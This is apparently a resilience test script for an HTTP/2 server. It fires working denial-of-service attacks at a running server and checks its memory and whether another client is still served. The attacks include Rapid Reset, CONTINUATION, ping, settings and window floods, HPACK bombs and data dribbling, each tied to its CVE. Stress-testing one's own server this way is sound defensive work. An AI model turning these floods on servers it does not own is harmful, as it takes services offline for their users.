"""Attacks on a server of HTTP/2, each on one connection, while another client goes on asking.

usage: abuse.py HOST:PORT PID [NAME …]

A line for each attack says how it ended, what memory the process PID took for it, and how the other
client fared. An attack fails if its connection is not ended in the way that is expected, if memory
grows by more than it may, or if the other client is not served.
"""

import itertools
import select
import sys
import threading
import time

from connection import *

# More than any of them should be allowed.
MANY = 50_000
# What an attack may cost, in MiB. A stream may hold 64 KiB that nobody reads, and the 128 of a
# connection as much of a window that was opened.
MOST_MEMORY = 48
# So many requests of the other client are served at least, during the attack or after it.
AFTERWARDS = 20
# How long the other client may wait for an answer.
MOST_WAIT = 2.0

GET = plain(head())
POST = plain(head(method="POST", path="/unread"))
ATTACKS = {}


def attack(*allowed, **how):
    """Adds an attack, after which one of these must have come."""

    def decorate(act):
        ATTACKS[act.__name__.replace("_", " ")] = (act, allowed, how)
        return act

    return decorate


def calm(event):
    """It is told why, unless what it still sends has its connection reset before it reads that."""
    return event.kind == "CLOSED" or event.kind == "GOAWAY" and event.code == ENHANCE_YOUR_CALM


def ended(event):
    return event.kind in ("GOAWAY", "CLOSED")


def reset(event):
    return event.kind == "RST_STREAM"


def refused(event):
    return event.kind == "RST_STREAM" and event.code == REFUSED_STREAM


def survived(event):
    return event.kind == "PING_ACK"


def too_large(event):
    return event.kind == "HEADERS" and event.status == 431


def flood(connection, frames, batch=200, is_over=ended):
    """Sends frames until the connection ends or all are sent, and reads meanwhile and then."""
    frames = iter(frames)
    while pieces := list(itertools.islice(frames, batch)):
        rest = memoryview(b"".join(pieces))
        while rest:
            readable, writable, _ = select.select([connection.socket], [connection.socket], [], PATIENCE)
            if not readable and not writable:
                return Event("SILENCE")
            if readable and (event := drain(connection)):
                return event
            if writable:
                try:
                    connection.socket.setblocking(False)
                    rest = rest[connection.socket.send(rest) :]
                except BlockingIOError:
                    pass
                except OSError:
                    # What the other side has said before is still to be read.
                    return connection.wait(ended) or Event("CLOSED")
    return connection.wait(is_over)


def drain(connection):
    """Reads what is there; an end of the connection, if any."""
    return connection.wait(ended, patience=0)


def streams(count):
    return range(1, 2 * count, 2)


@attack(calm)
def rapid_reset(connection):
    """CVE-2023-44487"""
    frames = (raw(HEADERS, END_STREAM | END_HEADERS, n, GET) + raw(RST_STREAM, 0, n, number(CANCEL)) for n in streams(MANY))
    return flood(connection, frames)


@attack(calm)
def resets_that_the_server_is_made_to_send(connection):
    """CVE-2025-8671, by heads that are malformed"""
    block = plain(head(extra=[("connection", "close")]))
    return flood(connection, (raw(HEADERS, END_STREAM | END_HEADERS, n, block) for n in streams(MANY)))


@attack(calm)
def resets_of_what_a_backend_was_asked(connection):
    """CVE-2025-8671, by content that is longer than its length"""
    block = plain(head(method="POST", extra=[("content-length", "1")]))
    frames = (raw(HEADERS, END_HEADERS, n, block) + raw(DATA, END_STREAM, n, b"ab") for n in streams(MANY))
    return flood(connection, frames)


@attack(calm)
def continuation_flood(connection):
    """CVE-2024-27316"""
    first = raw(HEADERS, END_STREAM, 1, GET)
    frames = (raw(CONTINUATION, 0, 1, plain([(f"x-{n}", "a" * 100)])) for n in range(MANY))
    return flood(connection, itertools.chain([first], frames))


@attack(calm)
def empty_continuation_flood(connection):
    first = raw(HEADERS, END_STREAM, 1, GET)
    return flood(connection, itertools.chain([first], (raw(CONTINUATION, 0, 1) for _ in range(MANY))))


@attack(calm)
def settings_flood(connection):
    """CVE-2019-9515"""
    return flood(connection, (raw(SETTINGS, 0, 0, setting((INITIAL_WINDOW, 65535))) for _ in range(MANY)))


@attack(calm)
def ping_flood(connection):
    """CVE-2019-9512"""
    return flood(connection, (raw(PING, 0, 0, b"\0" * 8) for _ in range(MANY)))


@attack(calm)
def ping_flood_by_one_who_does_not_read(connection):
    frames = b"".join(raw(PING, 0, 0, b"\0" * 8) for _ in range(MANY))
    connection.socket.settimeout(2)
    try:
        connection.socket.sendall(frames)
    except OSError:
        pass
    return connection.wait(ended)


@attack(ended)
def empty_data_flood(connection):
    """CVE-2019-9518"""
    first = raw(HEADERS, END_HEADERS, 1, POST)
    return flood(connection, itertools.chain([first], (raw(DATA, 0, 1) for _ in range(MANY))))


@attack(ended)
def flood_of_data_that_is_padding(connection):
    first = raw(HEADERS, END_HEADERS, 1, POST)
    padding = raw(DATA, PADDED, 1, b"\xff" + b"\0" * 255)
    return flood(connection, itertools.chain([first], (padding for _ in range(MANY))))


@attack(calm)
def priority_flood(connection):
    """CVE-2019-9513"""
    frames = (raw(PRIORITY, 0, n % 200 * 2 + 1, number(0) + b"\x0f") for n in range(MANY))
    return flood(connection, frames)


@attack(calm)
def flood_of_unknown_frames(connection):
    return flood(connection, (raw(0xFE, 0, 0, b"what?") for _ in range(MANY)))


@attack(calm)
def window_update_flood(connection):
    return flood(connection, (raw(WINDOW_UPDATE, 0, 0, number(1)) for _ in range(MANY)))


@attack(ended, too_large)
def hpack_bomb(connection):
    """CVE-2016-6581: a field of 4 KiB that is named by one byte, 16,000 times."""
    encoder = hpack.Encoder()
    block = encoder.encode(head()) + encoder.encode([("x-bomb", "a" * 3900)], huffman=False)
    connection.send(raw(HEADERS, END_STREAM | END_HEADERS, 1, block + b"\xbe" * (16_000 - len(block))))
    return connection.outcome(1)


@attack(ended, too_large)
def huge_header_list(connection):
    block = plain(head(extra=[(f"x-{n}", "a" * 1000) for n in range(1000)]))
    pieces = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    frames = [raw(CONTINUATION if at else HEADERS, 0 if at else END_STREAM, 1, piece) for at, piece in enumerate(pieces)]
    connection.send(*frames, raw(CONTINUATION, END_HEADERS, 1))
    return connection.outcome(1)


@attack(ended)
def slow_headers(connection):
    """A header block that grows by a byte for as long as it is let."""
    connection.send(raw(HEADERS, END_STREAM, 1, GET))
    for _ in range(2000):
        connection.send(raw(CONTINUATION, 0, 1))
        if event := connection.wait(ended, patience=1.0):
            return event
    return None


@attack(refused)
def many_streams(connection):
    frames = (raw(HEADERS, END_HEADERS, n, POST) for n in streams(1000))
    return flood(connection, frames, is_over=refused)


@attack(calm)
def many_streams_by_one_who_does_not_care(connection):
    frames = (raw(HEADERS, END_HEADERS, n, POST) for n in streams(MANY))
    return flood(connection, frames)


@attack(reset, settings=[(INITIAL_WINDOW, 0)])
def zero_window(connection):
    """CVE-2019-9517: much is asked for and nothing is taken, until it is given up."""
    block = plain(head(path="/big/1000000"))
    connection.send(*[raw(HEADERS, END_STREAM | END_HEADERS, n, block) for n in streams(128)])
    return connection.wait(lambda event: reset(event) or ended(event))


@attack(ended, settings=[(INITIAL_WINDOW, (1 << 31) - 1)])
def answers_that_are_not_read(connection):
    """The same by a client whose windows are open and whose socket is full."""
    block = plain(head(path="/big/1000000"))
    connection.send(raw(WINDOW_UPDATE, 0, 0, number((1 << 30))))
    connection.send(*[raw(HEADERS, END_STREAM | END_HEADERS, n, block) for n in streams(128)])
    # The client would see the end behind what it does not read; the kernel sees it at once.
    deadline = time.monotonic() + PATIENCE
    while time.monotonic() < deadline:
        if not is_established(connection.socket):
            return Event("CLOSED")
        time.sleep(0.02)
    return Event("SILENCE")


def is_established(client):
    """Whether the other end of a connection on this machine is open."""
    ends = [f"0100007F:{port:04X}" for port in (client.getpeername()[1], client.getsockname()[1])]
    with open("/proc/net/tcp") as table:
        rows = [line.split() for line in table]
    return any(row[1:4] == [*ends, "01"] for row in rows)


@attack(calm, settings=[(INITIAL_WINDOW, 0)])
def data_dribble(connection):
    """CVE-2019-9511: content is asked for byte by byte."""
    block = plain(head(path="/big/1000000"))
    connection.send(*[raw(HEADERS, END_STREAM | END_HEADERS, n, block) for n in streams(100)])
    frames = (raw(WINDOW_UPDATE, 0, n, number(1)) for _ in range(500) for n in streams(100))
    return flood(connection, frames)


class Bystander(threading.Thread):
    """Another client, and a look at the server's memory."""

    def __init__(self, address, process):
        super().__init__(daemon=True)
        self.address, self.process = address, process
        self.over = threading.Event()
        self.served, self.slowest, self.peak, self.problem = 0, 0.0, 0, None

    def memory(self):
        with open(f"/proc/{self.process}/status") as status:
            line = next(line for line in status if line.startswith("VmRSS"))
        return int(line.split()[1])

    def run(self):
        try:
            connection = Connection(self.address)
            for stream in itertools.count(1, 2):
                begin = time.monotonic()
                connection.request(stream)
                answer = connection.wait(lambda event: event.kind in ("HEADERS", "GOAWAY", "CLOSED"))
                if answer is None or answer.status != 200:
                    reason = dict(answer.fields).get("roadbed-reason") if answer else None
                    self.problem = f"the other client got {answer}, {reason}"
                    return
                connection.wait(lambda event: event.kind == "DATA")
                self.slowest = max(self.slowest, time.monotonic() - begin)
                self.peak = max(self.peak, self.memory())
                self.served += 1
                if self.over.wait(0.005) and self.served >= AFTERWARDS:
                    return
        except Exception as error:
            self.problem = f"the other client failed: {error!r}"


def run(name, address, process):
    """Carries an attack out: what is wrong with how it ended, and a description."""
    act, allowed, how = ATTACKS[name]
    bystander = Bystander(address, process)
    before = bystander.memory()
    bystander.start()
    connection = Connection(address, **how)
    event = act(connection) or Event("NOTHING")
    bystander.over.set()
    bystander.join(PATIENCE)
    connection.close()
    growth = max(bystander.peak - before, 0) / 1024
    seen = f"{event}, {growth:.1f} MiB more, {bystander.served} others served, the slowest in {bystander.slowest * 1000:.0f} ms"
    problems = [bystander.problem] if bystander.problem else []
    if not any(is_it(event) for is_it in allowed):
        problems.append("it was not ended as it should be")
    if growth > MOST_MEMORY:
        problems.append("it takes too much memory")
    if bystander.served < AFTERWARDS or bystander.slowest > MOST_WAIT:
        problems.append("others were not served in time")
    return problems, seen


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    address, process, chosen = (host, int(port)), sys.argv[2], sys.argv[3:]
    failed = 0
    for name in chosen or ATTACKS:
        problems, seen = run(name, address, process)
        failed += bool(problems)
        verdict = f"FAILED: {', '.join(problems)}" if problems else "ok"
        print(f"{name} ({seen}) ... {verdict}", flush=True)
    print(f"{len(chosen or ATTACKS) - failed} attacks were withstood, {failed} were not")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
